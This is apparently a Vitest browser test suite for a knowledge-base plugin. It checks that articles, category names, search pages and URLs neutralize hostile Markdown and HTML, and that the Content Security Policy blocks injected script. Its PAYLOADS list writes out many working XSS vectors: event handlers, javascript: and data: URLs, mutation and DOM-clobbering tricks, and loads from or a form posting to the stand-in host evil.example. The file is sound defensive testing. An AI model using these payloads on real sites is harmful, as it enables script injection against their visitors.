import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeInBrowser, openVisitor, type Visitor } from '../support/browser.js';
import { type PublishedSite, publishSite } from '../support/published-site.js';

/**
 * Payloads that would run, load or submit something if any part got through. `alert` opens a dialog, which is a fault.
 */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>go</text></a></svg>',
  '[go](javascript:alert(1))',
  '[go](JaVa&#x0A;Script&colon;alert(1))',
  '[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="vbscript:alert(1)" onclick="alert(1)" onfocus="alert(1)" autofocus tabindex=1>go</a>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/x.png) }</style>',
  '<p style="background:url(https://evil.example/x.png);position:fixed;inset:0">over everything</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<details open ontoggle=alert(1)><summary>go</summary></details><video autoplay onloadstart=alert(1) src=x></video>',
  '```html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '<div id="content"></div><form id=location></form><img name=body src=""><a id="kb-nav" popover>clobber</a>',
  '<template><script>alert(1)</script></template><button popovertarget=kb-nav onclick=alert(1)>go</button>',
];

const ACTIVE_ELEMENTS =
  'script, style, iframe, object, embed, form, button, template, base, meta, link, svg, math, [style], [popover]';

describeInBrowser('hostile Markdown', (browser) => {
  let site: PublishedSite;
  let author: number;
  beforeAll(async () => {
    site = await publishSite();
    author = (await site.host.createUser('administrator')).id;
    await site.host.request('POST', '/vendor-kb/v1/categories', {
      as: author,
      body: { name: '<img src=x onerror=alert(1)>', slug: 'hostile', description: PAYLOADS.join('\n\n') },
    });
  });
  afterAll(() => site.close());

  describe.each(['markdown', 'html'])('stored as %s', (format) => {
    let visitor: Visitor;
    beforeAll(async () => {
      visitor = await openVisitor(browser(), site.url);
    });
    afterAll(() => visitor.close());

    it.each(PAYLOADS.map((payload, index) => ({ payload, index })))(
      'is neutralized wherever the page displays it: $payload',
      async ({ payload, index }) => {
        const { page, faults } = visitor;
        const slug = `${format}-${index}`;
        const created = await site.host.request('POST', '/vendor-kb/v1/articles', {
          as: author,
          body: {
            title: `Hostile ${payload}`.slice(0, 200),
            slug,
            content: `<p>Before</p>\n\n${payload}\n\nAfter`,
            format,
            status: 'publish',
          },
        });
        expect(created.status).toBe(201);
        const answer = await page.goto(`/kb/${slug}`);
        expect(answer?.status()).toBe(200);
        expect(await page.locator('.kb-prose').textContent()).toContain('Before');
        const active = page.locator(`.kb-prose :is(${ACTIVE_ELEMENTS})`);
        // The page's own script adds one button to each code block.
        const code = page.locator('.kb-prose pre:has(> code)');
        expect(await active.count()).toBe(await code.count());
        expect(await page.locator('.kb-prose pre:has(> code) + button').count()).toBe(await code.count());
        expect(await page.evaluate(handlersIn, '.kb-main *')).toEqual([]);
        expect(await page.evaluate(() => document.querySelectorAll('#content, #kb-nav').length)).toBe(2);
        for (const link of await page.locator('.kb-prose a, .kb-prose button, .kb-prose summary').all()) {
          await link.click({ timeout: 1000, noWaitAfter: true });
        }
        expect(new URL(page.url()).origin).toBe(site.url);
        expect(faults.filter((fault) => !isMissingPicture(fault))).toEqual([]);
      },
    );
  });

  it('is neutralized in lists, search results and titles', async () => {
    const { page, faults, close } = await openVisitor(browser(), site.url);
    for (const path of [
      '/kb',
      '/kb/hostile',
      '/kb/search?q=hostile',
      '/kb/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    ]) {
      await page.goto(path);
    }
    await page.goto('/kb/%3Cimg%20src=x%20onerror=alert(1)%3E');
    await close();
    expect(faults.filter((fault) => !isMissingPicture(fault))).toEqual([]);
  });

  it('would be blocked by the CSP even if it got through', async () => {
    const { page, faults, close } = await openVisitor(browser(), site.url);
    await page.goto('/kb');
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="alert(1)"><p style="color:red">x</p>');
      document.body.append(Object.assign(document.createElement('script'), { textContent: 'alert(1)' }));
    });
    await expect.poll(() => faults.filter((fault) => fault.includes('Content Security Policy')).length).toBe(3);
    expect(faults.filter((fault) => fault.startsWith('dialog'))).toEqual([]);
    await close();
  });
});

function handlersIn(selector: string): string[] {
  return [...document.querySelectorAll(selector)].flatMap((element) =>
    [...element.attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
  );
}

/** Missing image of this site: harmless, but reported by the browser. */
function isMissingPicture(fault: string): boolean {
  return fault.startsWith('console: Failed to load resource') && fault.includes('404');
}
